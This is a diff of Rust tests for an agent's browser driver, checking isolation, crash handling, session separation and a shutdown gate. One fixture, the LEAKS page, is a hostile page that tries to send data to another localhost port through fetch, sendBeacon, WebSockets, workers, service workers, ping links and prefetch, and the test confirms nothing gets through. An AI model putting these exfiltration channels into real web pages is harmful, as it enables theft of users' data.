@@ -1,13 +1,17 @@
 //! The driver against a real browser and a portal of a few pages.
 
+#[expect(dead_code, reason = "each test uses a part of it")]
 mod world;
 
-use agent::driver::Driver as _;
+use agent::driver::{Driver as _, DriverError};
+use agent::gate::Shut;
 use domain::secret::Secret;
-use script::command::{Act, Condition, Left, Observation, Problem, Recogniser, Trouble, Watch};
+use script::command::{Act, Condition, Left, Observation, Problem, Recogniser, Watch};
 use url::Url;
 
+use rustix::process::Signal;
 use world::Portal;
+use world::process::{renderers_in, signal_to};
 
 const LOGIN: &str = r#"<form action="/submit/home" method="post">
     <input id="user" name="user"><input id="password" name="password" type="password">
@@ -44,7 +48,7 @@ fn outline(observation: &Observation) -> String {
 }
 
 struct Stage {
-    _folder: tempfile::TempDir,
+    folder: tempfile::TempDir,
     browsers: agent::cdp::Browsers,
     portal: Portal,
     base: Url,
@@ -56,8 +60,8 @@ impl Stage {
         let folder = tempfile::tempdir().expect("a folder");
         let browsers = world::browsers(folder.path());
         let base = portal.serve().await;
-        let session = world::session(&browsers, &base, &["localhost"], world::open_gate()).await;
-        Self { _folder: folder, browsers, portal, base, session }
+        let session = world::session(&browsers, &base, &[], world::open_gate()).await;
+        Self { folder, browsers, portal, base, session }
     }
 
     async fn visit(&mut self, path: &str) -> String {
@@ -199,10 +203,7 @@ async fn conditions_mean_what_they_say() {
         <p id=faint style='opacity:0'>Faint</p>";
     let mut stage = Stage::new(Portal::default().page("page", body)).await;
     stage.visit("page#top").await;
-    let text = |within: &str, contains: &str| Condition::Text {
-        within: within.into(),
-        contains: contains.into(),
-    };
+    let text = |within: &str, contains: &str| Condition::Text { within: within.into(), contains: contains.into() };
     for (condition, expected) in [
         (text("h1", "your accounts"), true),
         (text("h1", "accounts your"), false),
@@ -220,5 +221,158 @@ async fn conditions_mean_what_they_say() {
         let seen = stage.watch(&Watch { patience_ms: 100, ..watch(vec![page]) }).await;
         assert_eq!(seen.starts_with("page at"), expected, "{condition:?}: {seen}");
     }
+    stage.end().await;
+}
+
+#[tokio::test]
+async fn nothing_of_a_page_reaches_another_host() {
+    let stolen = Portal::default().page("leak", "");
+    let foreign = stolen.serve().await;
+    let port = foreign.port().expect("a port");
+    // The same server under its address would be allowed; under another name it isn't.
+    let body = LEAKS.replace("PORT", &port.to_string());
+    let portal = Portal::default().page("page", &body).page("own", "").page("worker", WORKER);
+    let mut stage = Stage::new(portal).await;
+    assert_eq!(stage.visit(&format!("page?{port}")).await, "Visited");
+    assert_eq!(stage.watch(&watch(vec![visible("done", "#done")])).await, "done at /page");
+    assert!(stage.portal.asked().contains(&"GET own".to_owned()), "{:?}", stage.portal.asked());
+    assert_eq!(stolen.asked(), Vec::<String>::new());
+    stage.end().await;
+}
+
+/// What a hostile page may try.
+const LEAKS: &str = r#"
+    <img src="http://localhost:PORT/leak"><iframe src="http://localhost:PORT/leak"></iframe>
+    <link rel="prefetch" href="http://localhost:PORT/leak">
+    <link rel="stylesheet" href="http://localhost:PORT/leak">
+    <a id="ping" href="/own" ping="http://localhost:PORT/leak" target="_blank">x</a>
+    <script>
+      const to = "http://localhost:PORT/leak";
+      const tries = [
+        () => fetch(to, { mode: "no-cors" }),
+        () => new Promise((resolve) => {
+          const socket = new WebSocket(to.replace("http", "ws"));
+          socket.onclose = socket.onopen = resolve;
+        }),
+        () => navigator.sendBeacon(to, "secret"),
+        () => window.open(to),
+        () => ping.click(),
+        () => fetch("/own"),
+        () => navigator.serviceWorker?.register("/script/worker?PORT"),
+        () => new Promise((resolve) => {
+          const source = `fetch("${to}", { mode: "no-cors" }).finally(() => postMessage(1))`;
+          const worker = new Worker(URL.createObjectURL(new Blob([source])));
+          worker.onmessage = resolve;
+        }),
+      ];
+      Promise.allSettled(tries.map((attempt) => Promise.resolve().then(attempt)))
+        .then(() => new Promise((resolve) => setTimeout(resolve, 500)))
+        .then(() => document.body.insertAdjacentHTML("beforeend", "<p id=done>done</p>"));
+    </script>"#;
+const WORKER: &str = "fetch('http://localhost:' + location.search.slice(1) + '/leak')";
+
+#[tokio::test]
+async fn dialogs_and_windows_do_not_stop_a_page() {
+    let body = "<button id=go onclick=\"alert('a'); confirm('b') || prompt('c');\
+        window.open('/page'); window.open('/page', '_blank', 'noopener');\
+        document.body.append(Object.assign(document.createElement('p'), { id: 'after', textContent: 'x' }))\
+        \">go</button><script>onbeforeunload = (event) => event.preventDefault()</script>";
+    let portal = Portal::default().page("page", body).page("other", "<h1>Other</h1>");
+    let mut stage = Stage::new(portal).await;
+    stage.visit("page").await;
+    assert_eq!(stage.act(&[click("#go")]).await, "Acted");
+    assert_eq!(stage.watch(&watch(vec![visible("after", "#after")])).await, "after at /page");
+    assert_eq!(stage.visit("other").await, "Visited");
+    assert_eq!(stage.watch(&watch(vec![visible("other", "h1")])).await, "other at /other");
+    stage.end().await;
+}
+
+#[tokio::test]
+async fn a_portal_that_goes_away_in_mid_run_is_unreachable() {
+    let body = "<form action=/missing><button id=gone>x</button></form>\
+        <a id=off href='http://127.0.0.1:1/'>y</a>";
+    let mut stage = Stage::new(Portal::default().page("page", body)).await;
+    let nothing = watch(vec![visible("never", "#never")]);
+    stage.visit("page").await;
+    assert_eq!(stage.act(&[click("#gone")]).await, "Acted");
+    assert_eq!(stage.watch(&nothing).await, "Unreachable(Status(404))");
+    stage.visit("page").await;
+    assert_eq!(stage.act(&[click("#off")]).await, "Acted");
+    let begun = tokio::time::Instant::now();
+    let seen = stage.watch(&nothing).await;
+    assert!(seen.starts_with("Unreachable"), "{seen}");
+    assert!(begun.elapsed().as_secs() < 3, "{:?}", begun.elapsed());
+    stage.end().await;
+}
+
+#[tokio::test]
+async fn sessions_share_a_browser_and_nothing_else() {
+    let body = "<script>document.cookie = 'a=1; path=/'</script><p id=seen></p>\
+        <script>seen.textContent = localStorage.getItem('b') ?? 'nothing'; localStorage.setItem('b', 'kept')</script>";
+    let mut stage = Stage::new(Portal::default().page("page", body)).await;
+    stage.visit("page").await;
+    let mut other = world::session(&stage.browsers, &stage.base, &[], world::open_gate()).await;
+    other.visit(&at(&stage.base, "page")).await.expect("an observation");
+    let text = Condition::Text { within: "#seen".into(), contains: "nothing".into() };
+    let page = Recogniser { page: "empty".into(), conditions: vec![text] };
+    let seen = other.watch(&watch(vec![page])).await.expect("an observation");
+    assert_eq!(outline(&seen), "empty at /page");
+    // The end of one is not the end of the other.
+    other.ending().end().await;
+    assert!(other.visit(&at(&stage.base, "page")).await.is_err());
+    assert_eq!(stage.visit("page").await, "Visited");
+    stage.end().await;
+}
+
+#[tokio::test]
+async fn a_shut_gate_lets_no_verb_through() {
+    let gate = world::open_gate();
+    let folder = tempfile::tempdir().expect("a folder");
+    let browsers = world::browsers(folder.path());
+    let portal = Portal::default().page("page", "<button id=go>go</button>");
+    let base = portal.serve().await;
+    let mut session = world::session(&browsers, &base, &[], gate.clone()).await;
+    session.visit(&at(&base, "page")).await.expect("an observation");
+    gate.shut(Shut::Lost);
+    let lost = Some(DriverError::Shut(Shut::Lost));
+    assert_eq!(session.visit(&at(&base, "page")).await.err(), lost);
+    assert_eq!(session.watch(&watch(vec![visible("go", "#go")])).await.err(), lost);
+    assert_eq!(session.act(&[click("#go")]).await.err(), lost);
+    assert_eq!(portal.asked().len(), 1, "{:?}", portal.asked());
+    browsers.end().await;
+}
+
+#[tokio::test]
+async fn a_page_that_hangs_is_a_crash_and_does_no_harm_to_others() {
+    let hang = "<button id=go onclick='for (;;) {}'>go</button>";
+    let portal = Portal::default().page("page", "<h1>Page</h1>").page("hang", hang);
+    let mut stage = Stage::new(portal).await;
+    let mut other = world::session(&stage.browsers, &stage.base, &[], world::open_gate()).await;
+    other.visit(&at(&stage.base, "hang")).await.expect("an observation");
+    let pid = stage.browsers.pid().await;
+    assert_eq!(other.act(&[click("#go")]).await.err(), Some(DriverError::Crashed));
+    other.ending().end().await;
+    assert_eq!(stage.visit("page").await, "Visited");
+    assert_eq!(stage.browsers.pid().await, pid, "the browser is another");
+    stage.end().await;
+}
+
+#[tokio::test]
+async fn a_page_whose_process_dies_is_a_crash_and_does_no_harm_to_others() {
+    let mut stage = Stage::new(Portal::default().page("page", "<h1>Page</h1>")).await;
+    let folder = stage.folder.path().to_owned();
+    stage.visit("page").await;
+    let before = renderers_in(&folder);
+    let mut other = world::session(&stage.browsers, &stage.base, &[], world::open_gate()).await;
+    other.visit(&at(&stage.base, "page")).await.expect("an observation");
+    let nothing = watch(vec![visible("never", "#never")]);
+    let kill = async {
+        for pid in renderers_in(&folder).into_iter().filter(|pid| !before.contains(pid)) {
+            signal_to(pid, Signal::KILL);
+        }
+    };
+    let (seen, ()) = tokio::join!(other.watch(&nothing), kill);
+    assert_eq!(seen.err(), Some(DriverError::Crashed));
+    assert_eq!(stage.visit("page").await, "Visited");
     stage.end().await;
 }
